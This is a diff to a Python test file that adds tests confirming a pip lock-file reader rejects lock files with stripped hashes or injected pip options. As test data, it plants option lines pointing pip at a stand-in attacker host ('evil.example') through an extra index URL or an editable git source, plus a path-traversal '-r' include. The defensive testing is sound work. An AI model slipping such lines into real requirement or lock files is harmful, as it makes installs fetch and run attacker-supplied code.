@@ -88,10 +88,31 @@ def test_a_stale_or_edited_lock_is_refused_with_the_command_that_fixes_it(tmp_pa
     # A requirement whose hashes were removed.
     stripped = "\n".join(line for line in text.splitlines() if "hash=sha256:" not in line) + "\n"
     (tmp_path / DEFAULT.lock_file).write_text(stripped)
+    with pytest.raises(LockError, match=r"continues a requirement and is not `    --hash=sha256"):
+        environments.read_lock(DEFAULT, tmp_path)
+    (tmp_path / DEFAULT.lock_file).write_text(stripped.replace(" \\\n", "\n"))  # the joins removed too
     with pytest.raises(LockError, match="without sha256 hashes"):
         environments.read_lock(DEFAULT, tmp_path)
     with pytest.raises(LockError, match="has no lock"):
         environments.read_lock(Environment("absent"), tmp_path)
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "--extra-index-url https://evil.example/simple",
+        "-r ../../etc/other.txt",
+        "    --no-binary :all:",
+        "-e git+https://evil.example/x.git",
+    ],
+)
+def test_a_committed_lock_with_a_pip_option_planted_in_it_is_refused_offline(tmp_path: Path, planted: str) -> None:
+    # A reviewer sees a lock of a thousand hash lines; one option line among them would make root's
+    # pip fetch from elsewhere or build from source. `nina config check` (no network) refuses it.
+    text = environments.read_lock(DEFAULT)
+    (tmp_path / DEFAULT.lock_file).write_text(text.replace("\nnumpy==2.4.6 \\", f"\n{planted}\nnumpy==2.4.6 \\"))
+    with pytest.raises(LockError, match=r"lock line .* is not `name==version`.*nina env lock default"):
+        environments.read_lock(DEFAULT, tmp_path)
 
 
 @needs_pypi
